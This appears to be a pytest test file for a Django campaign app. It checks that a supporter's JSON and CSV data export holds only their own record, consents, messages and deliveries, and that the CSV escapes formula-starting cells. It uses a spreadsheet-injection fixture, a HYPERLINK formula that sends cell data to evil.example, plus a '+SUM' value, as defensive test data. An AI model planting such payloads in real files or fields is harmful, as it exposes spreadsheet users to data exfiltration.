"""A supporter downloads everything held about them, as JSON and as CSV: their record, their
consents in the exact words shown, their messages and where each went, and nobody else's.
CSV cells that a spreadsheet would run as a formula are escaped."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from tests.delivery.outbox import outbox_pass
from tests.supporters.people import CONSENT_TEXT, data_url, writer
from writeathon.actions.models import Action
from writeathon.campaigns.models import Case

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULA_BODY = "+SUM(1,2)\nDear Sir,\n\nPlease release Shawkan now."


def _mine_and_another(case: Case) -> tuple[Action, Action]:
    mine = writer(case, email="mine@example.net", name=FORMULA_NAME, body=FORMULA_BODY)
    other = writer(
        case, email="other@example.net", name="Other Person", body="Someone else wrote this."
    )
    outbox_pass()  # the letters go out; a notice of delivery waits for each writer
    return mine, other


def _assert_nothing_of_the_other(raw: str) -> None:
    for theirs in ("other@example.net", "Other Person", "Someone else wrote this."):
        assert theirs not in raw


def test_json_export_holds_the_record_consents_messages_and_deliveries(
    case: Case, client: Client
) -> None:
    mine, _other = _mine_and_another(case)
    assert mine.supporter is not None

    response = client.get(data_url(mine.supporter, "export-json"))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response["Content-Disposition"].startswith("attachment;")
    assert "no-store" in response["Cache-Control"]
    raw = response.content.decode()
    _assert_nothing_of_the_other(raw)
    data = json.loads(raw)
    assert data["supporter"]["email"] == "mine@example.net"
    assert data["supporter"]["name"] == FORMULA_NAME
    assert data["supporter"]["email_confirmed_at"] is not None
    [consent] = data["consents"]
    assert consent["text"] == CONSENT_TEXT
    assert consent["version"] == "2016-1"
    assert consent["form"] == "case-email"
    assert consent["given_at"] is not None and consent["withdrawn_at"] is None
    [action] = data["actions"]
    assert action["id"] == str(mine.public_id)
    assert action["case"] == case.name
    assert (action["channel"], action["status"]) == ("email", "confirmed")
    assert action["subject"] == "Release Shawkan"
    assert action["message"] == FORMULA_BODY
    assert action["confirmed_at"] is not None
    letters = [d for d in action["deliveries"] if d["kind"] == "letter"]
    assert letters and all(d["status"] == "delivered" and d["delivered_at"] for d in letters)
    assert any(d["kind"] == "notice" and d["status"] == "queued" for d in action["deliveries"])


def test_csv_export_holds_the_same_data_with_formulas_escaped(case: Case, client: Client) -> None:
    mine, _other = _mine_and_another(case)
    assert mine.supporter is not None

    response = client.get(data_url(mine.supporter, "export-csv"))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    raw = response.content.decode("utf-8")
    _assert_nothing_of_the_other(raw)
    rows = list(csv.reader(io.StringIO(raw.removeprefix("\ufeff"))))
    assert rows[0] == ["record", "number", "field", "value"]
    values = {(record, number, field): value for record, number, field, value in rows[1:]}
    assert values["supporter", "", "email"] == "mine@example.net"
    assert values["supporter", "", "name"] == "'" + FORMULA_NAME
    assert values["consent", "1", "text"] == CONSENT_TEXT
    assert values["consent", "1", "version"] == "2016-1"
    assert values["action", "1", "message"] == "'" + FORMULA_BODY
    assert values["action", "1", "name"] == "'" + FORMULA_NAME
    assert values["action", "1", "case"] == case.name
    assert values["delivery", "1.1", "status"] == "delivered"
    # No cell at all can start a formula.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_data_page_lists_what_the_supporter_did(case: Case, client: Client) -> None:
    mine, _other = _mine_and_another(case)
    assert mine.supporter is not None

    response = client.get(data_url(mine.supporter))

    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    page = response.content.decode()
    assert "mine@example.net" in page
    assert case.name in page
    assert "other@example.net" not in page
